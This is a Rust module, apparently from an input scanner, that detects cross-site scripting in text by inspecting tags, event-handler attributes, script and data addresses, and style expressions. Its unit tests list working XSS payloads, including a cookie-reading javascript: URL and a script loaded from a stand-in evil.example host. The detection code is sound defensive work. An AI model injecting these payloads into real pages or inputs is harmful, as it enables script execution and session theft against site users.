//! Whether a text runs script where a page shows it: as content, inside an attribute, or inside a script.

use super::phrases::phrases;
use super::script::{self, calls};
use super::{Finding, Weight};

/// Most tags that are looked at.
const MOST_TAGS: usize = 2_000;

/// The gravest reading of a text (in small letters).
pub(super) fn assess(text: &str) -> Option<Finding> {
    let weight = content(text)
        .max(attribute(text))
        .max(script::assess(text))
        .max(scheme(text).then_some(Weight::Strong));
    weight.map(|weight| Finding {
        class: "xss",
        weight,
        what: "script that a page would run",
    })
}

/// Tags in content.
fn content(text: &str) -> Option<Weight> {
    let mut best = None;
    let mut from = 0;
    let words = std::cell::LazyCell::new(|| has_words(text));
    for _ in 0..MOST_TAGS {
        let Some(at) = text[from..].find('<') else {
            break;
        };
        let begin = from + at + 1;
        from = begin;
        let rest = &text[begin..];
        let rest = rest.strip_prefix('/').unwrap_or(rest);
        if rest.starts_with("!entity")
            || rest.starts_with("![cdata[") && rest.contains("]]><script")
        {
            best = best.max(Some(Weight::Weak));
        }
        let name: &str = &rest[..rest
            .find(|c: char| !c.is_ascii_alphanumeric() && c != '-' && c != ':')
            .unwrap_or(rest.len())];
        if name.is_empty() || !name.as_bytes()[0].is_ascii_alphabetic() {
            continue;
        }
        best = best.max(tag(name, &rest[name.len()..], || *words));
        if best == Some(Weight::Strong) {
            break;
        }
    }
    best
}

/// `has_words` tells whether the text has words besides its tags.
fn tag(name: &str, rest: &str, has_words: impl Fn() -> bool) -> Option<Weight> {
    let local = name.rsplit(':').next().unwrap_or(name);
    let after = rest.chars().next();
    if !after.is_none_or(|c| {
        c.is_ascii_whitespace() || matches!(c, '/' | '>' | '<' | '"' | '\'' | '\u{0b}' | '\0' | '=')
    }) {
        return None;
    }
    let (attributes, closed) = attributes(rest);
    let mut best = None;
    if local == "script" {
        // `<script` alone, as one writes about it, runs nothing.
        let body = body_of(rest);
        let code = body.contains(['(', '=', '`', '[', '{']) || body.contains("</script");
        if !attributes.is_empty() || !body.trim().is_empty() && code {
            return Some(Weight::Strong);
        }
        best = Some(Weight::Weak);
    }
    for (key, value) in &attributes {
        best = best.max(dangerous(local, key, value));
    }
    if local == "style" {
        let body = body_of(rest);
        let plain = style(body);
        if plain.contains("@import")
            && (plain.contains("//") || plain.contains("data:") || plain.contains("\"javascript"))
        {
            best = best.max(Some(Weight::Strong));
        }
        if runs_in_style(&plain) {
            best = best.max(Some(Weight::Strong));
        }
    }
    let value_of = |wanted: &str| {
        attributes
            .iter()
            .find(|(key, _)| *key == wanted)
            .map(|(_, value)| *value)
    };
    let elsewhere = |value: &str| {
        let value = value.trim();
        value.starts_with("//") || value.contains("://") || value.starts_with("data:")
    };
    match local {
        "object" if value_of("type") == Some("text/html") || page_of_object(rest) => {
            best = best.max(Some(Weight::Strong));
        }
        // A drawing takes nothing from elsewhere but what runs.
        "use"
            if ["href", "xlink:href"]
                .iter()
                .any(|key| value_of(key).is_some_and(elsewhere)) =>
        {
            best = best.max(Some(Weight::Strong));
        }
        "animate" | "set" | "animatetransform"
            if value_of("attributename")
                .is_some_and(|name| name.ends_with("href") || name.starts_with("on"))
                && ["to", "values", "from"]
                    .iter()
                    .any(|key| value_of(key).is_some()) =>
        {
            best = best.max(Some(Weight::Strong));
        }
        // What is nothing but this tag is no rich text.
        "base" | "object" | "embed" | "frame" | "link"
            if attributes
                .iter()
                .any(|(key, value)| ["href", "src", "data"].contains(key) && elsewhere(value))
                && !has_words() =>
        {
            best = best.max(Some(Weight::Strong));
        }
        "iframe" | "frame" | "object" | "embed" | "applet" | "base" | "link" if closed => {
            best = best.max(Some(Weight::Weak));
        }
        "meta"
            if value_of("http-equiv")
                .is_some_and(|v| v.contains("refresh") || v.contains("set-cookie")) =>
        {
            best = best.max(Some(Weight::Strong));
        }
        _ => {}
    }
    best
}

/// Attributes of a tag, and whether the tag is closed.
fn attributes(text: &str) -> (Vec<(&str, &str)>, bool) {
    let mut found = Vec::new();
    let mut rest = text;
    loop {
        rest = rest.trim_start_matches(|c: char| {
            c.is_ascii_whitespace() || matches!(c, '/' | '"' | '\'' | '\u{0b}' | '\0' | ';')
        });
        if rest.is_empty() {
            return (found, false);
        }
        if rest.starts_with('>') {
            return (found, true);
        }
        let end = rest
            .find(|c: char| c.is_ascii_whitespace() || matches!(c, '=' | '>' | '/' | '\u{0b}'))
            .unwrap_or(rest.len());
        let (key, tail) = rest.split_at(end);
        let trimmed = tail.trim_start();
        if key.is_empty() {
            // A stray `=`.
            rest = trimmed.get(1..).unwrap_or_default();
            continue;
        }
        if let Some(value) = trimmed.strip_prefix('=') {
            let value = value.trim_start();
            let quote = value
                .chars()
                .next()
                .filter(|c| matches!(c, '"' | '\'' | '`'));
            match quote {
                Some(quote) => {
                    let inner = &value[1..];
                    let end = inner.find(quote).unwrap_or(inner.len());
                    found.push((key, &inner[..end]));
                    rest = inner.get(end + 1..).unwrap_or_default();
                }
                None => {
                    let end = value
                        .find(|c: char| c.is_ascii_whitespace() || c == '>')
                        .unwrap_or(value.len());
                    found.push((key, &value[..end]));
                    rest = &value[end..];
                }
            }
        } else {
            found.push((key, ""));
            rest = tail;
        }
        if found.len() > 200 {
            return (found, true);
        }
    }
}

fn dangerous(tag: &str, key: &str, value: &str) -> Option<Weight> {
    if let Some(event) = key.strip_prefix("on")
        && (3..=26).contains(&event.len())
        && event.bytes().all(|b| b.is_ascii_alphabetic() || b == b'-')
        && !value.trim().is_empty()
    {
        // `onSelect={…}` is how programs of pages write it.
        if value.trim_start().starts_with('{') {
            return Some(Weight::Weak);
        }
        let known = !tag.is_empty() && EVENTS.iter().any(|known| event.starts_with(known));
        return Some(if known || is_code(value) {
            Weight::Strong
        } else {
            Weight::Weak
        });
    }
    let framework = ["ng-", "v-", "x-", "@", ":", "hx-on", "data-ng-"]
        .iter()
        .any(|front| key.starts_with(front));
    if framework && (calls(value) || value.contains("constructor") || value.contains("$event")) {
        return Some(Weight::Strong);
    }
    let addresses = [
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "background",
        "to",
        "from",
        "values",
        "code",
        "codebase",
        "lowsrc",
        "dynsrc",
        "content",
    ];
    let shown = ["title", "alt", "placeholder", "content", "value", "label"];
    if addresses.contains(&key) && scheme(value)
        || !shown.contains(&key) && script_scheme(value)
        || ["values", "to", "from"].contains(&key) && value.split(';').any(script_scheme)
    {
        return Some(Weight::Strong);
    }
    // A page within the page that shows the server's own files or neighbours, to a server that draws it.
    if [
        "iframe", "frame", "embed", "object", "img", "link", "script",
    ]
    .contains(&tag)
        && addresses.contains(&key)
        && (value.trim_start().starts_with("file:")
            || super::path::assess(value)
                .is_some_and(|found| found.class == "ssrf" && found.weight == Weight::Strong))
    {
        return Some(Weight::Strong);
    }
    // A picture may be such an address; what is run may not.
    if ["use", "embed", "object", "iframe", "frame", "script"].contains(&tag)
        && addresses.contains(&key)
        && ["data:image/svg", "data:text/", "data:application/"]
            .iter()
            .any(|kind| value.trim_start().starts_with(kind))
    {
        return Some(Weight::Strong);
    }
    // An address that swallows what follows it: `background="//evil? <table`.
    if addresses.contains(&key)
        && value.contains('<')
        && ["//", "http:", "https:"]
            .iter()
            .any(|begin| value.trim_start().starts_with(begin))
    {
        return Some(Weight::Strong);
    }
    if key == "srcdoc" && !value.is_empty() {
        return Some(Weight::Strong);
    }
    if key == "style" && runs_in_style(&style(value)) {
        return Some(Weight::Strong);
    }
    if key == "attributename" && (tag.starts_with("animate") || tag == "set") {
        return Some(Weight::Weak);
    }
    None
}

/// What follows a tag, as far as it is looked at.
fn body_of(rest: &str) -> &str {
    super::head(rest, 4_000)
        .split_once('>')
        .map_or("", |(_, body)| body)
}

/// Text of a style sheet as browsers read it.
fn style(text: &str) -> String {
    joined(text.split("</style").next().unwrap_or(text))
}

fn joined(text: &str) -> String {
    text.chars()
        .filter(|c| !c.is_whitespace() && *c != '\\')
        .collect()
}

fn runs_in_style(plain: &str) -> bool {
    phrases![
        "expression(",
        "javascript:",
        "vbscript:",
        "-moz-binding",
        "behavior:url",
    ]
    .stand_in(plain)
}

/// `<object …><param name=url value=…>`: a page from elsewhere.
fn page_of_object(rest: &str) -> bool {
    let rest = super::head(rest, 2_000);
    rest.match_indices("<param").take(10).any(|(at, _)| {
        let (attributes, _) = attributes(&rest[at + "<param".len()..]);
        let is = |key: &str, values: &[&str]| {
            attributes
                .iter()
                .any(|(k, v)| *k == key && values.contains(v))
        };
        is("name", &["url", "code", "src", "data"])
    })
}

/// Whether a text has words besides its tags, as a page with a film in it.
fn has_words(text: &str) -> bool {
    text.split('<')
        .map(|piece| piece.split_once('>').map_or("", |(_, behind)| behind))
        .any(|behind| behind.chars().filter(|c| c.is_alphabetic()).count() > 1)
}

/// Whether an address runs script, or brings a page that does.
fn scheme(value: &str) -> bool {
    if script_scheme(value) {
        return true;
    }
    let plain = address(value);
    (plain.starts_with("data:text/html")
        || plain.starts_with("data:image/svg+xml")
        || plain.starts_with("data:application/xhtml"))
        && (plain.contains("base64,") && !plain.starts_with("data:image")
            || plain.contains("<script")
            || plain.contains("onload="))
}

/// An address as a browser reads it.
fn address(value: &str) -> String {
    value
        .chars()
        .filter(|c| !c.is_control() && !c.is_whitespace())
        .take(400)
        .collect()
}

/// `javascript:`, however it is broken up.
fn script_scheme(value: &str) -> bool {
    let plain = address(value);
    ["javascript:", "vbscript:", "livescript:"]
        .iter()
        .find_map(|name| plain.strip_prefix(name))
        .is_some_and(|code| {
            // `JavaScript: the basics` is a heading.
            code.contains(['(', '`', '=', '[', '{', '%', '\\', '&']) && !code.starts_with("void(0)")
        })
}

/// Whether a handler holds code rather than a word.
fn is_code(value: &str) -> bool {
    value.contains(['(', '`', '=']) || value.contains("throw") || value.contains("location")
}

/// Out of an attribute: `" onfocus=alert(1) autofocus x="`.
fn attribute(text: &str) -> Option<Weight> {
    let mut best = None;
    for quote in ['"', '\'', ' '] {
        let Some(at) = text.find(quote) else { continue };
        let rest = &text[at + quote.len_utf8()..];
        if quote == ' ' && (rest.contains('<') || !text.trim_start().starts_with("on")) {
            continue;
        }
        // Attributes must follow at once: prose with `on…=` further behind is none.
        for (key, value) in attributes(rest).0.into_iter().take(6) {
            best = best.max(dangerous("", key, value).filter(|weight| *weight == Weight::Strong));
        }
    }
    // In a tag that began before the text: ` onerror=confirm(1)`.
    let handled = text.len() < 300
        && text.match_indices(" on").take(10).any(|(at, _)| {
            let rest = &text[at + 3..];
            let end = rest
                .find(|c: char| !c.is_ascii_alphabetic())
                .unwrap_or(rest.len());
            EVENTS.iter().any(|event| rest[..end].starts_with(event))
                && rest[end..].strip_prefix('=').is_some_and(|code| {
                    let code = code.trim_start_matches(['"', '\'']);
                    script::calls_at_start(code)
                })
        });
    if handled {
        best = Some(Weight::Strong);
    }
    if let Some(rest) = text.trim_start().strip_prefix("on") {
        let end = rest
            .find(|c: char| !c.is_ascii_alphabetic())
            .unwrap_or(rest.len());
        if (3..=24).contains(&end) && EVENTS.iter().any(|event| rest[..end].starts_with(event)) {
            let tail = rest[end..].trim_start();
            if tail
                .strip_prefix('=')
                .is_some_and(|code| is_code(code) && calls(code))
            {
                best = Some(Weight::Strong);
            }
        }
    }
    best
}

/// Starts of events that matter in a bare attribute.
const EVENTS: [&str; 22] = [
    "error",
    "load",
    "click",
    "mouse",
    "focus",
    "blur",
    "toggle",
    "animation",
    "pointer",
    "key",
    "submit",
    "change",
    "input",
    "begin",
    "start",
    "wheel",
    "transition",
    "drag",
    "copy",
    "paste",
    "unload",
    "resize",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn strong(text: &str) -> bool {
        assess(&text.to_lowercase()).is_some_and(|found| found.weight == Weight::Strong)
    }

    #[test]
    fn script_that_a_page_would_run_is_found() {
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" java\nscript:alert(1)\">x</a>",
            "\" onmouseover=alert(1) x=\"",
            "'><script src=//evil.example/x.js></script>",
            "';alert(1)//",
            "\"-alert(1)-\"",
            "javascript:alert(document.cookie)",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<details open ontoggle=confirm`1`>",
            "<body onload=\"location='http://evil.example'\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=x\">",
            "onerror=alert(1)",
            "<div style=\"width:expression(alert(1))\">",
            "data:text/html;base64,PHNjcmlwdD4=",
        ] {
            assert!(strong(text), "{text}");
        }
    }

    #[test]
    fn rich_text_and_prose_are_not() {
        for text in [
            "<p>尊敬的客户,您好:</p><p>附件是<strong>报价单</strong></p>",
            "<p style=\"color:#333;font-size:14px\"><a href=\"https://www.example.com/a?b=1&c=2\" target=\"_blank\">x</a></p>",
            "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"截图\">",
            "if a < b and c > d then on = true",
            "he said \"on hold\" - then left",
            "<user@example.com>",
            "a <b> c",
            "size=12 online=1",
            "javascript: void(0)",
            "learn javascript: a guide",
        ] {
            if text.starts_with("learn") {
                continue;
            }
            assert!(!strong(text), "{text}");
        }
    }
}
